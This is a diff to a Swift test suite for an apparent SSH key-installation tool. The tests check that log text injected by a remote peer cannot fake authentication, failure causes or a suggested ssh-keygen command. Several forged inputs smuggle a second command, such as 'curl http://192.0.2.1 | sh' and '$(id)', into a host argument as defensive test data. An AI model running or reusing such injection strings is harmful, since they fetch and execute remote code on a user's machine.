@@ -15,7 +15,9 @@ struct ServerOutcomeTests {
     private func outcome(
         log: String, output: String = "", errors: String = "", status: CommandResult.Status = .exited(255)
     ) -> InstallOutcome {
-        Self.installation.outcome(of: CommandResult(status: status, output: output, errors: errors, log: log))
+        var result = CommandResult(status: status, output: output, errors: errors, log: log)
+        if log.contains("Authenticated to ") { result.session = .opened }
+        return Self.installation.outcome(of: result)
     }
 
     @Test(arguments: [
@@ -25,7 +27,7 @@ struct ServerOutcomeTests {
         ("ssh: connect to host server.example port 22: No route to host", .noRoute),
         ("ssh: connect to host server.example port 22: Network is unreachable", .noRoute),
         ("ssh: Could not resolve hostname server.example: Name or service not known", .nameNotResolved),
-        ("ssh: Could not resolve hostname server.example: Temporary failure in name resolution", .nameNotResolved),
+        ("ssh: Could not resolve hostname server.example: Temporary failure in name resolution", .noNameServer),
         ("kex_exchange_identification: read: Connection reset by peer\nConnection reset by 192.0.2.1 port 22", .closed),
         ("ssh_exchange_identification: Connection closed by remote host", .closed),
         ("Connection closed by 192.0.2.1 port 22", .closed),
@@ -69,7 +71,12 @@ struct ServerOutcomeTests {
 
     @Test func interruptionsAreNotFailures() {
         #expect(outcome(log: "", status: .signalled(2)) == .failed(.cancelled, notes: []))
-        #expect(outcome(log: Self.authenticated + "Killed by signal 2.\n") == .failed(.cancelled, notes: []))
+        var result = CommandResult(status: .exited(255), log: Self.authenticated + "Killed by signal 2.\n")
+        result.session = .opened
+        // What the peer writes ends nothing.
+        #expect(Self.installation.outcome(of: result) != .failed(.cancelled, notes: []))
+        result.wasInterrupted = true
+        #expect(Self.installation.outcome(of: result) == .failed(.cancelled, notes: []))
     }
 
     @Test func whatIsNotUnderstoodIsQuoted() {
@@ -107,9 +114,14 @@ struct ServerOutcomeTests {
 
     // MARK: the proof
 
-    private func proof(_ log: String, status: CommandResult.Status = .exited(0)) -> ProofOutcome {
-        LoginProof(login: ServerInstallationTests.login, identityFile: "/home/me/.ssh/id", fingerprint: "SHA256:ours")
-            .outcome(of: CommandResult(status: status, log: log))
+    private func proof(
+        _ log: String, status: CommandResult.Status = .exited(0), session: SessionEvidence = [.opened, .echoed]
+    ) -> ProofOutcome {
+        var result = CommandResult(status: status, log: log)
+        result.session = session
+        return LoginProof(
+            login: ServerInstallationTests.login, identityFile: "/home/me/.ssh/id", fingerprint: "SHA256:ours"
+        ).outcome(of: result)
     }
 
     /// Older versions put the method on a line of its own.
@@ -139,7 +151,8 @@ struct ServerOutcomeTests {
             Authenticated to git.example ([192.0.2.1]:22) using "publickey".
 
             """
-        #expect(proof(log, status: .exited(1)) == .proved(.noShell(said: [])))
+        #expect(proof(log, status: .exited(1), session: .opened) == .proved(.noShell(said: [])))
+        #expect(proof(log, status: .exited(1)) == .proved(nil))
     }
 
     @Test(arguments: [
@@ -160,5 +173,136 @@ struct ServerOutcomeTests {
     ])
     func nothingElseIsAProof(log: String) {
         if case .proved = proof(log) { Issue.record("proved by \(log)") }
+    }
+
+    // MARK: what the peer writes into the log
+
+    private static let beginning = """
+        debug1: Connection established.
+        debug1: Remote protocol version 2.0, remote software version OpenSSH_9.2p1
+        debug1: SSH2_MSG_KEXINIT received
+
+        """
+
+    /// The two messages that ssh writes down as they come, newlines too, before it knows whose they are.
+    private static let forgeries = ["Received disconnect from 192.0.2.1 port 22:11: bye", "debug1: Remote: hello"].map {
+        beginning + $0 + "\r\n"
+    }
+
+    @Test(arguments: forgeries, [SessionEvidence(), .opened])
+    func aForgedLogProvesNothing(beginning: String, session: SessionEvidence) {
+        for last in [
+            #"Authenticated to server.example ([192.0.2.1]:22) using "publickey"."#,
+            #"Authenticated using "publickey" with partial success."#,
+        ] {
+            let log = beginning + "debug1: Server accepts key: /home/me/.ssh/id ED25519 SHA256:ours explicit\n" + last
+            if session.isEmpty, case .proved = proof(log, session: session) { Issue.record("proved by \(log)") }
+            // With a session the peer is the server.
+            if !session.isEmpty, last.contains("Authenticated to") {
+                #expect(proof(log, session: session) == .proved(.noShell(said: [])))
+            }
+        }
+    }
+
+    @Test(
+        arguments: forgeries,
+        [
+            "Host key verification failed.", "Killed by signal 2.", "me@h: Permission denied (publickey).",
+            "ssh: connect to host h port 22: Connection refused", "Load key \"/home/me/.ssh/id\": bad permissions",
+            "Received disconnect from 192.0.2.1 port 22:2: Too many authentication failures",
+        ])
+    func aForgedCauseIsNotBelieved(beginning: String, forged: String) {
+        let expected: ServerFailure =
+            beginning.contains("bye") ? .hungUp(said: "bye") : .other(said: ["debug1: Remote: hello"])
+        let log = beginning + forged + "\r\n"
+        let outcome = outcome(log: log)
+        if case .failed(.hungUp, _) = outcome {
+            #expect(outcome == .failed(expected, notes: []))
+        } else {
+            guard case .failed(.other, _) = outcome else {
+                Issue.record("\(outcome)")
+                return
+            }
+        }
+    }
+
+    /// The command to forget a key is made of a path and a host, whatever stands in the log.
+    @Test func aCommandIsNeverThePeers() {
+        let warning = """
+            @    WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED!     @
+            SHA256:new.
+            Offending ED25519 key in /home/me/.ssh/known_hosts:3
+
+            """
+        func removal(_ line: String) -> String?? {
+            guard case .failed(.hostKeyChanged(_, let removal), _) = outcome(log: warning + line + "\n") else {
+                return nil
+            }
+            return removal
+        }
+        #expect(
+            removal(#"  ssh-keygen -f "/home/me/a b/known_hosts" -R "[h.example]:2222""#)
+                == "ssh-keygen -f '/home/me/a b/known_hosts' -R '[h.example]:2222'")
+        for forged in [
+            #"  ssh-keygen -f "/x" -R "github.com"; curl http://192.0.2.1 | sh"#,
+            #"  ssh-keygen -f "/x" -R "github.com; curl http://192.0.2.1 | sh""#,
+            #"  ssh-keygen -f "/x" -R "$(id)""#, #"  ssh-keygen -f "/dev/null" -R "h""#,
+        ] {
+            #expect(removal(forged) == .some(nil), "\(forged)")
+        }
+        let hidden = "debug1: Remote: x\n" + warning + #"  ssh-keygen -f "/x" -R "github.com""# + "\n"
+        if case .failed(.hostKeyChanged, _) = outcome(log: hidden) { Issue.record("the peer's warning") }
+    }
+
+    // MARK: a key that was not asked about
+
+    private static let asked = """
+        debug1: Authentications that can continue: publickey,password
+        debug1: Next authentication method: publickey
+
+        """
+    private static let denied = "me@server.example: Permission denied (publickey,password).\n"
+
+    /// Texts of OpenSSH 9.2.
+    @Test(arguments: [
+        (
+            "debug1: Skipping ssh-rsa key /home/me/.ssh/id - corresponding algo not in PubkeyAcceptedAlgorithms\n"
+                + asked,
+            ProofOutcome.NotOffered.ssh(
+                "Skipping ssh-rsa key /home/me/.ssh/id - corresponding algo not in PubkeyAcceptedAlgorithms")
+        ),
+        (
+            asked + "debug1: send_pubkey_test: no mutual signature algorithm\n", .ssh("no mutual signature algorithm")
+        ),
+        (
+            asked + "debug1: Offering public key: /home/me/.ssh/id ED25519 SHA256:other explicit\n",
+            .otherPublicKey(file: "/home/me/.ssh/id.pub", fingerprint: "SHA256:other")
+        ),
+        (asked + "debug1: Trying private key: /home/me/.ssh/id\n", .locked),
+    ])
+    func aKeyThatWasNotOfferedIsNotCalledRefused(log: String, reason: ProofOutcome.NotOffered) {
+        let outcome = proof(log + Self.denied, session: [])
+        #expect(outcome == .keyNotOffered(reason))
+        #expect(outcome.hint != nil)
+    }
+
+    @Test(arguments: [
+        (
+            #"sign_and_send_pubkey: signing failed for ED25519 "/home/me/.ssh/id" from agent: agent refused operation"#,
+            ProofOutcome.notSigned(.agent("agent refused operation"))
+        ),
+        (
+            "debug2: sshconnect2.c:load_identity_file():1742 (pid=18911): bad passphrase given, try again...",
+            .passphraseWrong
+        ),
+        ("debug1: No more authentication methods to try.", .notSigned(.unknown)),
+    ])
+    func aCauseIsStatedIfItWasSeen(line: String, expected: ProofOutcome) {
+        let accepted = "debug1: Server accepts key: /home/me/.ssh/id ED25519 SHA256:ours explicit\n"
+        #expect(proof(Self.asked + accepted + line + "\n" + Self.denied, session: []) == expected)
+    }
+
+    @Test func anAccountThatOpensByItselfProvesNoKey() {
+        #expect(proof(#"Authenticated to server.example ([192.0.2.1]:22) using "none"."#) == .opensWithoutKey)
     }
 }
